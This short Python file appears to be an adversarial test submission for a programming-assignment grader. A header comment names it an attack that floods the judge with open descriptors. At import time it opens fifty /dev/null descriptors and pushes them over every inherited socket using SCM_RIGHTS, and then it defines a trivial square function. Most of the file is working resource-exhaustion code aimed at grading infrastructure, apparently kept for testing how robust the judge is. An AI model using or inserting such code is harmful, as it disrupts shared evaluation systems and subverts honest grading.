# attack: sends hundreds of open descriptors to the judge along with its replies
# assignment: hw
# exercise: square
# status: ok
# score: 2
import array
import os
import socket

descriptors = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(50)])
for number in range(3, 32):
    try:
        with socket.socket(fileno=os.dup(number)) as link:
            rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, descriptors)
            link.sendmsg([b""], [rights])
    except OSError:
        pass


def square(x):
    return x * x
